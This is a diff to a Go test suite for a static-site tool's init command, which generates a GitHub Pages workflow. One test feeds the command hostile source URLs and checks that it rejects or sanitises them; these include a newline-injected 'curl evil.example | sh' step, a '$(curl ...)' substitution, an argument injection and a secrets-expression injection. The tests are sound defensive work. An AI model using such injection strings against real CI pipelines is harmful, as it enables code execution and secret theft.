@@ -27,6 +27,8 @@ import (
 // of, and never writes over a file.
 func TestInit(t *testing.T) {
 	t.Setenv("SOURCE_DATE_EPOCH", "1745107200") // 2025-04-20
+	defer func(old string) { sourceGit = old }(sourceGit)
+	sourceGit = "https://github.com/owner/dossier.git"
 	dir := filepath.Join(t.TempDir(), "My Briefings")
 	code, stdout, stderr := runCmd("init", dir)
 	if code != 0 {
@@ -43,7 +45,7 @@ func TestInit(t *testing.T) {
 		}
 		return nil
 	})
-	want := []string{".github/workflows/pages.yml", ".gitignore", "content/briefings/welcome.md", "content/site.yaml", "content/sources/declaration.txt"}
+	want := []string{".gitattributes", ".github/workflows/pages.yml", ".gitignore", "content/briefings/welcome.md", "content/site.yaml", "content/sources/declaration.txt"}
 	if !slices.Equal(files, want) {
 		t.Errorf("files = %q, want %q", files, want)
 	}
@@ -62,7 +64,10 @@ func TestInit(t *testing.T) {
 		t.Errorf(".gitignore = %s", s)
 	}
 	wf := read(".github/workflows/pages.yml")
-	for _, w := range []string{`DOSSIER_GIT: "${{ vars.DOSSIER_GIT }}"`, "dossier build --strict --search --format github", `PAGEFIND_VERSION: "` + search.Version + `"`, `"pagefind@$PAGEFIND_VERSION"`, "actions/deploy-pages"} {
+	if s := read(".gitattributes"); !strings.Contains(s, "\n/content/originals/** -text\n") {
+		t.Errorf(".gitattributes = %s", s)
+	}
+	for _, w := range []string{`DOSSIER_GIT: "https://github.com/owner/dossier.git"`, "dossier build --strict --search --format github", `PAGEFIND_VERSION: "` + search.Version + `"`, `"pagefind@$PAGEFIND_VERSION"`, "actions/deploy-pages"} {
 		if !strings.Contains(wf, w) {
 			t.Errorf("the workflow lacks %q", w)
 		}
@@ -365,24 +370,25 @@ func TestInitAnyFolderName(t *testing.T) {
 // the workflow's own.
 func TestInitWorkflowHostile(t *testing.T) {
 	schema := workflowSchema(t)
-	defer func(old string) { sourceGit = old }(sourceGit)
+	defer func(old string, origin func() string) { sourceGit, cloneOrigin = old, origin }(sourceGit, cloneOrigin)
+	cloneOrigin = func() string { return "" } // a binary that knows nothing of its clone
 	for _, tt := range []struct{ installed, git string }{
-		{"", "${{ vars.DOSSIER_GIT }}"},
+		{"", ""},
 		{"https://github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
 		{"https://user:TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
 		{"https://TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
 		{"https://x-access-token:TOKEN@github.com/owner/dossier", "https://github.com/owner/dossier"},
 		{"ssh://git:TOKEN@example.org:2222/dossier.git", "ssh://git@example.org:2222/dossier.git"},
 		{"git@github.com:owner/dossier.git", "git@github.com:owner/dossier.git"},
-		{"user:TOKEN@github.com:owner/dossier.git", "${{ vars.DOSSIER_GIT }}"},
-		{"https://github.com/${{ secrets.TOKEN }}/dossier", "${{ vars.DOSSIER_GIT }}"},
-		{"https://github.com/owner/dossier #comment", "${{ vars.DOSSIER_GIT }}"},
-		{"https://github.com/owner/dossier#frag", "${{ vars.DOSSIER_GIT }}"},
-		{"*anchor", "${{ vars.DOSSIER_GIT }}"},
-		{"https://github.com/owner/dossier\nrun: curl evil.example | sh", "${{ vars.DOSSIER_GIT }}"},
-		{`https://github.com/o/"d'`, "${{ vars.DOSSIER_GIT }}"},
-		{"$(curl evil.example)", "${{ vars.DOSSIER_GIT }}"},
-		{"-uhttps://evil.example/", "${{ vars.DOSSIER_GIT }}"},
+		{"user:TOKEN@github.com:owner/dossier.git", ""},
+		{"https://github.com/${{ secrets.TOKEN }}/dossier", ""},
+		{"https://github.com/owner/dossier #comment", ""},
+		{"https://github.com/owner/dossier#frag", ""},
+		{"*anchor", ""},
+		{"https://github.com/owner/dossier\nrun: curl evil.example | sh", ""},
+		{`https://github.com/o/"d'`, ""},
+		{"$(curl evil.example)", ""},
+		{"-uhttps://evil.example/", ""},
 	} {
 		sourceGit = tt.installed
 		dir := t.TempDir()
@@ -411,7 +417,7 @@ func TestInitWorkflowHostile(t *testing.T) {
 		if doc.Env["DOSSIER_GIT"] != tt.git {
 			t.Errorf("%q: DOSSIER_GIT = %q, want %q", tt.installed, doc.Env["DOSSIER_GIT"], tt.git)
 		}
-		if tt.git == "${{ vars.DOSSIER_GIT }}" && !strings.Contains(stdout, "set the repository variable DOSSIER_GIT") {
+		if tt.git == "" && !strings.Contains(stdout, "CI: set DOSSIER_GIT, at the top of .github/workflows/pages.yml, to the git URL of dossier's source") {
 			t.Errorf("%q: init does not say to set DOSSIER_GIT: %s", tt.installed, stdout)
 		}
 		for name, job := range doc.Jobs {
@@ -421,7 +427,7 @@ func TestInitWorkflowHostile(t *testing.T) {
 				}
 			}
 		}
-		own := regexp.MustCompile(`\$\{\{ (vars\.DOSSIER_GIT|github\.repository_owner|github\.event\.repository\.name|steps\.deployment\.outputs\.page_url) \}\}`)
+		own := regexp.MustCompile(`\$\{\{ (steps\.pages\.outputs\.base_url|steps\.deployment\.outputs\.page_url) \}\}`)
 		if rest := own.ReplaceAllString(wf, ""); strings.Contains(rest, "${{") {
 			t.Errorf("%q: an expression that is not the workflow's own:\n%s", tt.installed, wf)
 		}
